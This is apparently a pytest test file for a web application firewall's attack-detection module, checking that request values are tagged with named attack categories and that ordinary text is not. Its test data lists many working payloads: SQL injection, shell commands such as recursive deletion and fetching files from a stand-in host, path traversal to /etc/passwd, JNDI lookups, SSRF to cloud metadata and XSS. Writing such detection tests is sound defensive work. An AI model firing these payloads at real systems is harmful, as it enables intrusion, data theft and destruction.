"""Facts: what each says of attacks, what none says of honest text, and that looking is cheap and safe."""

from functools import partial

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bascule.waf.logic.facts import ALL, DECISIVE, FACTS, facts_of, facts_with_evidence
from tests.support.linear import assert_linear

ATTACKS = [
    (b"1 UNION SELECT null,null--", "sql.union_select"),
    (b"1/**/union/**/select/**/1", "sql.union_select"),
    (b"1--x\nunion#y\nselect--z\n2", "sql.union_select"),
    (b"1;DROP TABLE users--", "sql.stacked_statement"),
    (b"1;DROP TABLE users--", "sql.change_schema"),
    (b"x' OR 'a'='a", "sql.tautology"),
    (b"1) or 17=17 -- ", "sql.tautology"),
    (b"' or 1 like 1#", "sql.tautology"),
    (b"1 AND 7 BETWEEN 7 AND 9", "sql.tautology"),
    (b"1 AND QUARTER(NULL) IS NULL", "sql.tautology"),
    (b"1 AND @@spid=@@spid", "sql.tautology"),
    (b"' AND 3=4--", "sql.constant_comparison"),
    (b"1 AND 4 NOT BETWEEN 0 AND 3", "sql.constant_comparison"),
    (b"admin'--", "sql.comment_tail"),
    (b"1 and sleep(5)", "sql.time_delay"),
    (b"';waitfor delay '0:0:5'--", "sql.time_delay"),
    (b"(select table_name from information_schema.tables)", "sql.schema_table"),
    (b"extractvalue(1,concat(0x7e,version()))", "sql.error_call"),
    (b"';exec master..xp_cmdshell 'dir'", "sql.system_call"),
    (b"' || (select 1)", "sql.quote_then_logic"),
    (b"1 or pi()>3", "sql.ends_statement"),
    (b"'*7*'", "sql.ends_statement"),
    (b"7' or 'x", "sql.ends_statement"),
    (b"name, (select 1)", "sql.continues"),
    (b"3;select version()", "sql.continues"),
    (b"7 or age>1", "sql.continues"),
    (b"x' is not null", "sql.continues"),
    (b"7'::int", "sql.continues"),
    (b"1;export Z=ls;$Z", "shell.assembles_command"),
    (b"| rm -rf --no-preserve-root /", "shell.runs_command"),
    (b"& del /s x", "shell.runs_command"),
    (b"|| (busybox ping -c 2 h)", "shell.runs_command"),
    (b"x;{id}", "shell.runs_command"),
    (b"a;bash", "shell.runs_command"),
    (b"x;for i in 1;do id;done", "shell.runs_command"),
    (b"-exec id ;", "shell.runs_command"),
    (b"x;systemctl stop sshd", "shell.runs_command"),
    (b"h.example|id", "shell.runs_command"),
    (b"--use-compress-program=id", "shell.assembles_command"),
    (b"report.php\0.pdf", "path.cut_name"),
    (b"report.php::$DATA", "path.cut_name"),
    (b"C:/unattend.txt", "path.windows_secret"),
    (b"1 or 1", "sql.ends_statement"),
    (b"||1", "sql.ends_statement"),
    (b"' limit 1 -- ", "sql.ends_statement"),
    (b"' 0 '", "sql.ends_statement"),
    (b"(7=7)*7", "sql.ends_statement"),
    (b"%U%N%I%O%N %S%E%L%E%C%T 1", "sql.union_select"),
    (b"7\x07union\x08select\x011", "sql.union_select"),
    (b"top[/al/.source+/ert/.source](1)", "js.builds_name"),
    (b"<x x-init=f()>", "html.event_handler"),
    (b"<form action=//x.example><input name=pw>", "html.lone_form"),
    (b"<img src=//evil.example/a>", "ssrf.attackers_site"),
    (b"/%250d%250aX-A:1", "http.header_after_line_end"),
    (b"new SplFileObject('a')", "code.php_runs"),
    (b"var_dump(scandir('/'))", "code.php_runs"),
    (b"{% if 7*7 == 49 %}y{% endif %}", "template.sum"),
    (b"<x xlink:href='expect://id'/>", "xml.include"),
    (b"<script>alert(1)</script>", "html.script_tag"),
    (b'"><img src=x onerror=alert(1)>', "html.event_in_tag"),
    (b'" autofocus onfocus=alert(1) x="', "html.event_handler"),
    (b"java\tscript:alert(1)", "html.script_url"),
    (b"';alert(1);//", "js.dialog_call"),
    (b"+ADw-script+AD4-alert(1)", "html.script_tag"),
    (b"; cat /etc/passwd", "shell.command_after_separator"),
    (b"; id", "shell.runs_command"),
    (b"#_memberAccess['allowStaticMethodAccess']=true", "template.runs_code"),
    (b"$(wget http://x.example/a)", "shell.substitution"),
    (b"a|c'a't${IFS}/etc/passwd", "shell.command_with_target"),
    (b"() { :;}; /bin/bash -c id", "shell.shellshock"),
    (b"powershell -enc SQBFAFgAIAAoAE4A", "shell.powershell"),
    (b"8;cat /etc/hosts", "shell.runs_command"),
    (b"x\nwhoami\n", "shell.runs_on_new_line"),
    (b"a`ls -la`", "shell.backquoted"),
    (b"&& id", "shell.runs_short_command"),
    (b"/etc/apt/sources.list", "path.system_folder"),
    (b"http://x.example/a.txt?", "path.remote_include"),
    (b"..%c0%af..%c0%afetc", "path.climbs_encoded"),
    (b"{{8-3}}", "template.sum"),
    (b"{{config}}", "template.names_internals"),
    (b"x' || '2'=='2", "nosql.leaves_string"),
    (b"db.users.insert({a:1})", "nosql.leaves_string"),
    (b"/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "html.script_tag"),
    (b"x" * 9000 + b"' or 1=1 or 'a'='b", "sql.tautology"),
    (b"'] | //user | a['", "xpath.leaves_predicate"),
    (b"q' or 'b'='c", "sql.quoted_condition"),
    (b"q' or name is not null or name = 'b", "sql.quoted_condition"),
    (b"https://shop.example.com/s?q=x' union select 1,2--", "sql.union_select"),
    (b"java.util.HashMap/1797211028|java.lang.Runtime/1", "code.java_call"),
    (b"T(java.lang.String).valueOf(1)", "code.java_call"),
    (b"https://shop.example.com@other.example/", "ssrf.user_in_url"),
    (b"select name from users", "sql.whole_statement"),
    (b'"><i>x</i>', "html.breaks_out"),
    (b"eval(location.hash)", "js.reads_secret"),
    (b"echo(md5(7));", "code.php_runs"),
    (b"https:/x.example", "http.redirect_trick"),
    (b"${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}", "template.jndi"),
    (b"../../../../etc/passwd", "path.climbs_far"),
    (b"..%252f..%252fetc%252fpasswd", "path.climbs_twice"),
    (b"/etc/./passwd", "path.unix_secret"),
    (b"c:\\windows\\win.ini", "path.windows_secret"),
    (b"php://filter/convert.base64-encode/resource=x", "path.wrapper"),
    (b"/.git/config", "path.dot_file"),
    (b"/shop.jsp.bak", "path.backup_copy"),
    (b"{{7*7}}", "template.arithmetic"),
    (b"{{''.__class__.__mro__}}", "template.python_internals"),
    (b"${T(java.lang.Runtime).getRuntime().exec('id')}", "template.java_internals"),
    (b"${jndi:ldap://x.example/a}", "template.jndi"),
    (b"${${lower:j}ndi:ldap://x.example/a}", "template.jndi"),
    (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "xml.external_entity"),
    (b"http://169.254.169.254/latest/meta-data/", "ssrf.cloud_metadata"),
    (b"http://0x7f000001/", "ssrf.odd_number_address"),
    (b"http://user@[::1]:80/", "ssrf.loopback"),
    (b"gopher://10.0.0.1:6379/_x", "ssrf.odd_scheme"),
    (b"<?php system($_GET[1]);", "code.php_tag"),
    (b'O:4:"User":1:{s:4:"name";}', "code.php_object"),
    (b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "code.java_object"),
    (b"__import__('os').system('id')", "code.python_call"),
    (b"require('child_process').exec('id')", "code.node_call"),
    (b'{"$ne":null}', "nosql.operator"),
    (b"user[$ne]", "nosql.bracket_operator"),
    (b"';return true;//", "nosql.where_code"),
    (b"*)(uid=*))(|(uid=*", "ldap.leaves_filter"),
    (b"' or count(//user)=1 or 'a'='b", "xpath.function"),
    (b"%0d%0aSet-Cookie: a=b", "http.header_after_line_end"),
    (b"x@y.example%0abcc: z@y.example", "http.mail_header"),
    (b"__proto__", "http.prototype_pollution"),
    (b'<!--#exec cmd="id" -->', "http.server_side_include"),
    (b"=cmd|' /c calc'!A0", "http.formula"),
    (b"sqlmap/1.7", "scanner.user_agent"),
    (b"-83) OR 13 BETWEEN 22 AND 22-- x", "sql.ends_statement"),
    (b"9 or 5>4", "sql.ends_statement"),
    (b"1 or true", "sql.ends_statement"),
    (b"3-(select 1)", "sql.ends_statement"),
    (b"name` from users#", "sql.ends_statement"),
    (b"7 and 3*2=6", "sql.ends_statement"),
    (b"37 and 1=0", "sql.ends_statement"),
    (b"12-if(1=1,0,1)", "sql.ends_statement"),
    (b"9 or field(1,1)", "sql.ends_statement"),
    (b"x'&0+1='x", "sql.ends_statement"),
    (b"x'; vacuum; --", "sql.ends_statement"),
    (b"1;delete ignore from t", "sql.continues"),
    (b"3+len(1234)-len(123)", "sql.continues"),
    (b"1 and ord 1.e(mid((current_user 1.e( 1.e) 1.e) 1.e,7 1.e,1 1.e) 1.e)>1", "sql.probe_call"),
    (b"a\nid", "shell.only_command"),
    (b"x\nhead .env", "shell.only_command"),
    (b"rundll32 url.dll,FileProtocolHandler calc.exe", "shell.only_command"),
    (b'reg add "HKLM\\System" /v x', "shell.only_command"),
    (b"<(id)", "shell.substitution"),
    (b"shop$(id)index", "shell.substitution"),
    (b"a;iwr http://x.example -OutFile a.exe", "shell.runs_command"),
    (b"a;alias q=id;q", "shell.runs_command"),
    (b"x;ruby -rsocket -e 'exit'", "shell.runs_command"),
    (b"a;--use-askpass=/tmp/a", "shell.assembles_command"),
    (b"@GrabConfig(disableChecksums=true)", "code.java_call"),
    (b"..2fetc2fpasswd", "path.climbs_encoded"),
    (b"/tmp/sess_8f3a", "path.system_folder"),
    (b"wmic process call create calc", "shell.runs_command"),
    (b"x & start calc", "shell.runs_command"),
    (b"x;find . -exec id", "shell.runs_command"),
    (b"x;env id", "shell.runs_command"),
    (b"x;docker ps", "shell.command_behind_word"),
    (b"x;mv a b", "shell.tool_behind_word"),
    (b"x;Get-Service", "shell.powershell"),
    (b"1 and rand()", "sql.ends_statement"),
    (b"1 and mid('a',1,1)='a'", "sql.ends_statement"),
    (b"1 and st_astext(point(1,1)) is not null", "sql.ends_statement"),
    (b"a' limit 1--", "sql.ends_statement"),
    (b"foo'+and+(1+2+3)=6--", "sql.quoted_condition"),
    (b"{" + b" ".join(b"a%d:user(id:%d){pw}" % (n, n) for n in range(9)) + b"}", "nosql.graphql"),
    (b"<\xc5\xbfcript src=//x.example>", "html.script_tag"),
    (b"<form action=//x.example><input name=pw>", "html.foreign_form"),
    (b"new EventSource('//x.example')", "js.whole_script"),
    (b"returnUrl=//x.example/a", "http.leads_elsewhere"),
    (b"1' and jsonb_path_exists('{}','$')--", "sql.quoted_condition"),
    (b"& for /f %i in ('ver') do echo %i", "shell.runs_command"),
    (b"& copy a.txt b.php", "shell.runs_command"),
    (b"|gawk 'BEGIN{}'", "shell.runs_command"),
    (b";$0<<<id", "shell.space_trick"),
    (b"--checkpoint=1 --checkpoint-action=exec=sh", "shell.assembles_command"),
    (b"assert(strrev('x'))", "code.php_runs"),
    (b"unlink('index.php');", "code.php_runs"),
    (b"copy('http://x.example/s.txt','s.php');", "code.php_runs"),
    (b"@System.DateTime.Now", "code.dotnet"),
    (b"{{'a'*9}}", "template.sum"),
    (b'{{ .Ctx.Env "SECRET" }}', "template.object_chain"),
    (b"1 or position()=1", "xpath.leaves_predicate"),
    (b"\t//evil.example", "http.redirect_trick"),
    (b"<img src='https://x.example/?", "html.dangling"),
    (b"<base target='", "html.dangling"),
]

HONEST = [
    b"O'Brien and sons",
    b"Please select the best of the union, drop me a line or update your profile",
    b"rock 'n' roll, and then 8 or 9 more",
    b"Tom & Jerry; cats and dogs",
    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.0.0 Safari/537.36",
    b"/static/js/main.9f8e7d6c.chunk.js",
    b"2023-07-01T12:00:00.000Z",
    b"9f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0",
    b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
    b"GA1.2.1234567890.1663160894",
    b"the path to the file is in the manual",
    b"Who am I? I am the cat; then I sat down.",
    b"**bold** _italic_ [link](/docs/a.html) `code`",
    b"50% off - today only!",
    b"M\xc3\xbcller & S\xc3\xb6hne GmbH",
    b"^[a-z]+\\d{2,3}$",
]


def test_names_are_unique_and_told_in_words() -> None:
    assert len(set(FACTS)) == len(FACTS)
    assert all(fact.says for fact in ALL)


@pytest.mark.parametrize(("value", "fact"), ATTACKS)
def test_attacks_show_their_facts(value: bytes, fact: str) -> None:
    assert fact in facts_of(value, "header:user-agent" if fact == "scanner.user_agent" else "query")


@pytest.mark.parametrize("value", HONEST)
def test_honest_text_has_no_facts(value: bytes) -> None:
    assert facts_of(value, "query") == frozenset()


@pytest.mark.parametrize(
    "value",
    [
        b"sudo apt update && sudo apt upgrade did not help",
        b'Traceback (most recent call last):\n  File "app.py", line 3\nError',
        b"joe@system.example.org",
        b"5 > 4 and 3 < 9",
        b'5" from china',
        b"java;python;git",
        b"saturday;su",
        b"shoes;more for men",
        b"2 and 3",
        b"a1: user(1), a2: user(2)",
    ],
)
def test_nothing_in_honest_text_decides(value: bytes) -> None:
    assert facts_of(value, "query").isdisjoint(DECISIVE)


DTD = b'<?xml version="1.0"?>\n<!DOCTYPE root [\n<!ELEMENT root (to)>%b\n]>\n<root><to>A</to></root>'


@pytest.mark.parametrize(
    ("declared", "fact"),
    [(b"<!ATTLIST to onload CDATA 'alert(1)'>", "xml.doctype"), (b"%x;", "xml.external_entity")],
)
def test_a_document_type_that_only_names_elements_and_texts_is_no_attack(declared: bytes, fact: str) -> None:
    assert facts_of(DTD % b"", "document") == frozenset()
    assert facts_of(DTD % b"<!ENTITY x 'y'>", "document") == frozenset()
    assert fact in facts_of(DTD % declared, "document")


@pytest.mark.parametrize(
    "name",
    [
        b"filters[price][$gte]",
        b"filters[$or][0][date][$eq]",
        b"where[owner][name][$in][]",
        b"query[state][$notNull]",
        b"filters[hashtag][$eq]",
    ],
)
def test_a_filter_may_compare_fields(name: bytes) -> None:
    assert "nosql.bracket_operator" not in facts_of(name, "name")


@pytest.mark.parametrize(
    "name",
    [
        b"filter[$ne]",
        b"filters[password][$gt]",
        b"filters[createdBy][resetPasswordToken][$startsWith]",
        b"where[user_password][0][$gt]",
        b"query[apiToken][$ne]",
        b"query[" + b"a" * 30 + b"_secret][$ne]",
        b"where[owner][username][$ne]",
        b"filter[a][$where]",
        b"filter[a][$regex]",
        b"filter[a][$gte][$ne]",
        b"name[$ne]",
        b"my[filter][a][$ne]",
    ],
)
def test_what_is_asked_of_a_secret_or_in_script_is_no_filter(name: bytes) -> None:
    assert "nosql.bracket_operator" in facts_of(name, "name")


def test_counting_rows_is_no_xpath() -> None:
    assert "xpath.function" not in facts_of(b"SELECT $__time(t), count(*) FROM orders", "body")
    assert "xpath.function" in facts_of(b"starts-with(*,'a')", "query")


@pytest.mark.parametrize(
    "value",
    [
        b"https://0123456789abcdef0123456789abcdef@o1.ingest.example/4505",  # where Sentry's clients report
        b"7|0|8|https://shop.example.com/app/|8A4B|com.x.client.Svc|find|java.lang.String/2004016611|java.util.HashMap/1797211028|",
        b"https://search.example/?q=union+select+seats",
    ],
)
def test_what_clients_of_frameworks_and_analytics_send_decides_nothing(value: bytes) -> None:
    assert not facts_of(value, "body") & DECISIVE
    assert not facts_of(value, "query") & DECISIVE


def test_a_referer_says_what_the_page_was_asked_for() -> None:
    said = b"how to drop table if exists"
    assert facts_of(said, "header:referer") == facts_of(said, "query") == frozenset()
    assert "sql.quoted_condition" in facts_of(b"x' or 1=1 or 'a'='b", "header:referer")


def test_mathematics_reads_a_little_like_a_condition() -> None:
    assert facts_of(b"If x > 3 and y < 4 then x + y = 7", "query") == {"sql.number_then_logic"}


def test_links_that_do_nothing_are_not_scripts() -> None:
    assert facts_of(b"javascript:void(0);", "body") == frozenset()
    assert "html.script_url" in facts_of(b"javascript:x()", "body")
    assert "js.dialog_call" in facts_of(b"javascript:void(alert(1))", "body")


def test_an_address_alone_is_an_address() -> None:
    assert facts_of(b"https://www.example.com/a?b=c", "query") == {"ssrf.url_value"}


def test_places_decide_where_they_matter() -> None:
    assert "path.script_upload" in facts_of(b"a.php", "file")
    assert facts_of(b"/index.php", "path") == frozenset()
    assert "path.absolute" not in facts_of(b"/var/log/x", "path")


def test_evidence_tells_where_and_how() -> None:
    found = {name: (text, how) for name, text, how in facts_with_evidence(b"%3Cscript%3E", "query")}
    assert found["html.script_tag"] == (b"<script>", ("url",))
    assert {"enc.url"} <= facts_of(b"%3Cscript%3E", "query")
    assert {"enc.double_url", "enc.layers"} <= facts_of(b"%253Cscript%253E", "query")


@settings(deadline=None)
@given(st.binary(max_size=400), st.sampled_from(["path", "query", "file", "header:x-a", "body"]))
def test_never_raises_and_knows_only_known_names(value: bytes, place: str) -> None:
    assert facts_of(value, place) <= set(FACTS)


@pytest.mark.parametrize(
    "piece",
    [
        b"/*",
        b"'",
        b"' or ",
        b"%25",
        b"&#x3c;",
        b"\\",
        b"char(",
        b"<a ",
        b"1=1 or ",
        b"(",
        b"{{",
        b"$IFS",
        b"QUFB",
        b"0x41",
        b"not ",
    ],
)
def test_time_is_linear(piece: bytes) -> None:
    assert_linear(partial(facts_of, place="query"), piece)


def test_only_a_request_path_is_expected_not_to_climb() -> None:
    assert "path.climbs_in_path" in facts_of(b"/a/../b", "path")
    assert "path.climbs_in_path" in facts_of(b"/assets../app/x", "path")
    assert "path.climbs_in_path" not in facts_of(b"/a/../b", "query")
    assert "scanner.probe_secret" in facts_of(b"/.git/config", "path")
